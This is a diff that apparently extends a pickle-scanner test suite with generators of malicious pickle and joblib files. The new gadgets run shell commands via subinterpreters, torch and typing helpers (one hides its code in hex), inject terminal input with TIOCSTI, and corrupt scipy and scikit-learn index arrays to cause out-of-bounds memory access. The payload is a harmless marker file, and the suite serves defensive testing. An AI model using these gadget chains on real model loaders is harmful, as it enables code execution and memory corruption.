@@ -41,6 +41,8 @@ import rules  # noqa: E402
 MARKER = "/tmp/jlp-attack-marker"
 CMD = "touch " + MARKER
 PY = "__import__('os').system('touch %s')" % MARKER
+# the same without a dunder name (S-35 judges calls given one)
+PY_PLAIN = "import os; os.system('touch %s')" % MARKER
 
 ATTACKS = []
 
@@ -964,6 +966,69 @@ for _stem, _mod, _cls, _cargs, _meth, _args, _what in METHOD_GADGETS:
         obj = real_array_u1() if cargs is None else instance(mod, cls, *cargs)
         return pk.proto(4) + pk.call(dotted(mod, "%s.%s" % (cls, meth)), obj, *args) + pk.STOP
     attack(_stem + ".pkl", "dangerous", "gadget", _what, expect=["pickle"])(_mk)
+
+
+# C modules the rule walk cannot look into, and resolvers outside its reach (second
+# red-team round): each was only suspicious while Python ran what it was given
+@attack("subinterpreter_run_string.pkl", "dangerous", "gadget",
+        "_xxsubinterpreters.run_string(create(), code) runs python code in a subinterpreter "
+        "(the code names no dunder)",
+        expect=["pickle"])
+def _():
+    interp = pk.call(pk.glob("_xxsubinterpreters", "create"))
+    return pk.proto(4) + pk.call(pk.glob("_xxsubinterpreters", "run_string"), interp, pk.uni(PY_PLAIN)) + pk.STOP
+
+
+@attack("testcapi_run_in_subinterp.pkl", "dangerous", "gadget",
+        "CPython's _testcapi.run_in_subinterp runs python code (the code names no dunder)",
+        expect=["pickle"])
+def _():
+    return pk.proto(4) + pk.call(pk.glob("_testcapi", "run_in_subinterp"), pk.uni(PY_PLAIN)) + pk.STOP
+
+
+@attack("torch_import_dotted_name_then_call.pkl", "dangerous", "gadget",
+        "torch._utils._import_dotted_name('os.system') imports os and returns the function, "
+        "which the pickle then calls", expect=["pickle"])
+def _():
+    f = pk.call(pk.glob("torch._utils", "_import_dotted_name"), pk.uni("os.system"))
+    return pk.proto(4) + pk.call(f, pk.uni(CMD)) + pk.STOP
+
+
+@attack("typing_eval_type_forwardref.pkl", "dangerous", "gadget",
+        "typing._eval_type(ForwardRef(code), {}, {}) evals the code with the builtins in "
+        "scope; no dunder name anywhere (exec of hex-decoded source)", expect=["pickle"])
+def _():
+    src = "exec(bytes.fromhex('%s').decode())" % ("import os; os.system(%r)" % CMD).encode().hex()
+    ref = pk.call(pk.glob("typing", "ForwardRef"), pk.uni(src))
+    return pk.proto(4) + pk.call(pk.glob("typing", "_eval_type"), ref, pk.EMPTY_DICT, pk.EMPTY_DICT) + pk.STOP
+
+
+@attack("pyio_open_write.pkl", "dangerous", "gadget",
+        "the pure-Python io's open(path, 'w') creates a file", expect=["pickle"])
+def _():
+    return pk.proto(4) + pk.call(pk.glob("_pyio", "open"), pk.uni(MARKER), pk.uni("w")) + pk.STOP
+
+
+@attack("sqlite3_connection_creates_file.pkl", "dangerous", "gadget",
+        "_sqlite3.Connection(path) creates the database file", expect=["pickle"])
+def _():
+    return pk.proto(4) + pk.call(pk.glob("_sqlite3", "Connection"), pk.uni(MARKER + ".db")) + pk.STOP
+
+
+@attack("fcntl_ioctl_tiocsti.pkl", "dangerous", "gadget",
+        "fcntl.ioctl(0, TIOCSTI, b'x') pushes a byte into the terminal's input (the shell "
+        "reads it as typed once the load ends)", expect=["pickle"])
+def _():
+    return pk.proto(4) + pk.call(pk.glob("fcntl", "ioctl"), pk.integer(0), pk.integer(0x5412),
+                                 pk.binbytes(b"x")) + pk.STOP
+
+
+@attack("stride_tricks_as_strided.pkl", "dangerous", "gadget",
+        "numpy's as_strided makes a view of any strides over a one-byte array: reads and "
+        "writes outside its buffer", expect=["pickle"])
+def _():
+    return pk.proto(4) + pk.call(pk.glob("numpy.lib.stride_tricks", "as_strided"), real_array_u1(),
+                                 pk.tup(pk.integer(1 << 20)), pk.tup(pk.integer(4096))) + pk.STOP
 
 
 @attack("pydoc_locate_then_call.pkl", "dangerous", "gadget",
@@ -1956,6 +2021,207 @@ def _():
         "pandas.eval of an expression string", expect=["pickle", "pickle-py"])
 def _():
     return pk.proto(2) + pk.call(pk.glob("pandas", "eval"), pk.uni("1 + 1")) + pk.STOP
+
+
+# ---- 5d. scipy.sparse index arrays (spec/SAFETY.md S-50) ---------------------------------------
+# scipy's sparse kernels (toarray, @, sums: sparsetools) trust a matrix's index arrays.
+# Restoring a matrix puts its state into __dict__ unchecked, and csr/csc/bsr_matrix((data,
+# indices, indptr), shape) skips check_format's full check: an index past the shape is a
+# read or write at that offset from the dense buffer (pickle.load of the first one, then
+# m @ v, ends in SIGSEGV).
+
+def _scipy_sparse(make, mutate, dump=None):
+    import io
+    import pickle
+    import warnings
+    import scipy.sparse as sp
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")
+        m = make(sp)
+    mutate(m.__dict__)
+    if dump is None:
+        return pickle.dumps(m, protocol=2)
+    import joblib
+    buf = io.BytesIO()
+    joblib.dump(m, buf, compress=dump)
+    return buf.getvalue()
+
+
+@attack("scipy_csr_state_index_huge.pkl", "dangerous", "state",
+        "a pickled csr_matrix (3, 3) whose indices hold 10**9: pickle.load restores it "
+        "unchecked, m @ v reads and toarray writes at that offset (SIGSEGV)", check="loads")
+def _():
+    return _scipy_sparse(lambda sp: sp.csr_matrix(np.eye(3)),
+                         lambda d: d.update(indices=np.array([0, 1, 10 ** 9], dtype=np.int32)))
+
+
+@attack("scipy_csr_ctor_index_huge.pkl", "dangerous", "state",
+        "csr_matrix((data, indices, indptr), shape) called with the index 10**9: the constructor "
+        "checks lengths, not index values", check="loads")
+def _():
+    import pickle
+
+    class R:
+        def __reduce__(self):
+            import scipy.sparse as sp
+            return (sp.csr_matrix, ((np.ones(1), np.array([10 ** 9], dtype=np.int32),
+                                     np.array([0, 1], dtype=np.int32)), (1, 3)))
+    return pickle.dumps(R(), protocol=2)
+
+
+@attack("scipy_coo_state_row_eq_shape.joblib", "dangerous", "state",
+        "joblib.dump (compress 3) of a coo_matrix (3, 3) with a row index 3: toarray writes one "
+        "row past the dense array", check="loads")
+def _():
+    return _scipy_sparse(lambda sp: sp.coo_matrix(np.eye(3)),
+                         lambda d: d.update(row=np.array([0, 1, 3], dtype=np.int32)), dump=3)
+
+
+@attack("scipy_csc_indptr_decreasing.pkl", "dangerous", "state",
+        "a csc_matrix whose indptr decreases: the kernels take the difference as a count "
+        "(tocsr, sums read before the arrays)", check="loads")
+def _():
+    return _scipy_sparse(lambda sp: sp.csc_matrix(np.eye(3)),
+                         lambda d: d.update(indptr=np.array([0, 3, 1, 3], dtype=np.int32)))
+
+
+@attack("scipy_bsr_block_index_past.pkl", "dangerous", "state",
+        "a bsr_matrix (4, 6) of (2, 3) blocks with the block column 5: toarray writes blocks "
+        "past the dense array", check="loads")
+def _():
+    return _scipy_sparse(lambda sp: sp.bsr_matrix(np.ones((4, 6)), blocksize=(2, 3)),
+                         lambda d: d.update(indices=np.array([0, 5, 0, 1], dtype=np.int32)))
+
+
+@attack("scipy_csr_array_indptr_short.pkl", "dangerous", "state",
+        "a csr_array of 3 rows whose indptr has 2 entries: the kernels read the row pointers "
+        "past its end", check="loads")
+def _():
+    return _scipy_sparse(lambda sp: sp.csr_array(np.eye(3)),
+                         lambda d: d.update(indptr=np.array([0, 1], dtype=np.int32)))
+
+
+@attack("scipy_lil_column_huge.pkl", "dangerous", "state",
+        "a lil_matrix (3, 3) whose row 0 holds the column 10**8: tocsr (m @ v, toarray) builds "
+        "a csr_matrix of it unchecked (SIGSEGV)", check="loads")
+def _():
+    def mutate(d):
+        d["rows"][0] = [10 ** 8]
+    return _scipy_sparse(lambda sp: sp.lil_matrix(np.eye(3)), mutate)
+
+
+@attack("scipy_dia_offsets_past_data.pkl", "dangerous", "state",
+        "a dia_matrix with 800 offsets for 1 row of diagonals: m @ v reads data rows past the "
+        "array", check="loads")
+def _():
+    return _scipy_sparse(lambda sp: sp.dia_matrix(np.eye(3)),
+                         lambda d: d.update(offsets=np.arange(800, dtype=np.int32) % 8))
+
+
+# ---- 5e. scikit-learn tree nodes (spec/SAFETY.md S-51) -------------------------------------------
+# Tree.__setstate__ and TreePredictor's plain __dict__ take nodes whose children and
+# features predict follows with bounds checks off (pickle.load, then predict: SIGSEGV).
+
+def _tree_model(mutate, hgb=False, dump=None):
+    import io
+    import pickle
+    rs = np.random.RandomState(0)
+    X = rs.rand(60, 3)
+    y = (X[:, 0] > .5).astype(int)
+    if hgb:
+        from sklearn.ensemble import HistGradientBoostingClassifier
+        m = HistGradientBoostingClassifier(max_iter=2).fit(X, y)
+        p = m._predictors[0][0]
+        p.nodes = p.nodes.copy()
+        mutate(p.nodes)
+    else:
+        from sklearn.tree import DecisionTreeClassifier
+        m = DecisionTreeClassifier(max_depth=2).fit(X, y)
+        cls, args, st = m.tree_.__reduce__()
+        st = dict(st, nodes=st["nodes"].copy())
+        mutate(st["nodes"])
+
+        class T:
+            def __reduce__(self):
+                return cls, args, st
+        m.tree_ = T()
+    if dump is None:
+        return pickle.dumps(m, protocol=2)
+    import joblib
+    buf = io.BytesIO()
+    joblib.dump(m, buf, compress=dump)
+    return buf.getvalue()
+
+
+@attack("sklearn_tree_feature_huge.pkl", "dangerous", "state",
+        "a DecisionTreeClassifier whose root splits on feature 10**8: predict reads X at that "
+        "column (SIGSEGV)", check="loads")
+def _():
+    return _tree_model(lambda n: n["feature"].__setitem__(0, 10 ** 8))
+
+
+@attack("sklearn_tree_child_past_nodes.joblib", "dangerous", "state",
+        "joblib.dump (compress 3) of a tree whose root's left child is node 10**6: predict "
+        "reads nodes past the array", check="loads")
+def _():
+    return _tree_model(lambda n: n["left_child"].__setitem__(0, 10 ** 6), dump=3)
+
+
+@attack("sklearn_hgb_feature_huge.pkl", "dangerous", "state",
+        "a HistGradientBoostingClassifier whose first predictor splits on feature 10**8: "
+        "predict reads X at that column (SIGSEGV)", check="loads")
+def _():
+    return _tree_model(lambda n: n["feature_idx"].__setitem__(0, 10 ** 8), hgb=True)
+
+
+@attack("sklearn_kdtree_idx_array_huge.joblib", "dangerous", "state",
+        "joblib.dump (compress 3) of a KNeighborsClassifier whose KDTree's idx_array holds "
+        "10**8: predict reads data at that row (SIGSEGV)", check="loads")
+def _():
+    import io
+    import joblib
+    from sklearn.neighbors import KNeighborsClassifier
+    rs = np.random.RandomState(0)
+    X = rs.rand(40, 3)
+    m = KNeighborsClassifier(algorithm="kd_tree").fit(X, (X[:, 0] > .5).astype(int))
+    cls, args, st = m._tree.__reduce__()
+    idx = st[1].copy()
+    idx[0] = 10 ** 8
+    st = (st[0], idx) + tuple(st[2:])
+
+    class T:
+        def __reduce__(self):
+            return cls, args, st
+    m._tree = T()
+    buf = io.BytesIO()
+    joblib.dump(m, buf, compress=3)
+    return buf.getvalue()
+
+
+@attack("tfidf_vocabulary_index_huge.pkl", "dangerous", "state",
+        "a TfidfVectorizer whose vocabulary_ maps a word to 10**8: transform of a text holding "
+        "it builds a csr_matrix with that column unchecked and multiplies it (SIGSEGV)", check="loads")
+def _():
+    import pickle
+    from sklearn.feature_extraction.text import TfidfVectorizer
+    m = TfidfVectorizer().fit(["alpha beta", "beta gamma"])
+    m.vocabulary_ = dict(m.vocabulary_, gamma=10 ** 8)
+    return pickle.dumps(m, protocol=2)
+
+
+@attack("random_state_ctor_memmap.pkl", "dangerous", "gadget",
+        "numpy.random._pickle.__randomstate_ctor(path, numpy.memmap): the helper calls its "
+        "bit_generator_ctor argument, memmap opens the path read-write (S-52)")
+def _():
+    return pk.proto(2) + pk.call(pk.glob("numpy.random._pickle", "__randomstate_ctor"), pk.uni(MARKER),
+                                 pk.glob("numpy", "memmap")) + pk.STOP
+
+
+@attack("list_of_huge_range.pkl", "suspicious", "budget",
+        "list(range(200_000_000)): safe names, 200 million ints (about 7 GB) filled at load (S-34)")
+def _():
+    rng = pk.call(pk.glob("builtins", "range"), pk.integer(200_000_000))
+    return pk.proto(2) + pk.call(pk.glob("builtins", "list"), rng) + pk.STOP
 
 
 @attack("pandas_read_csv_url.pkl", "dangerous", "gadget",
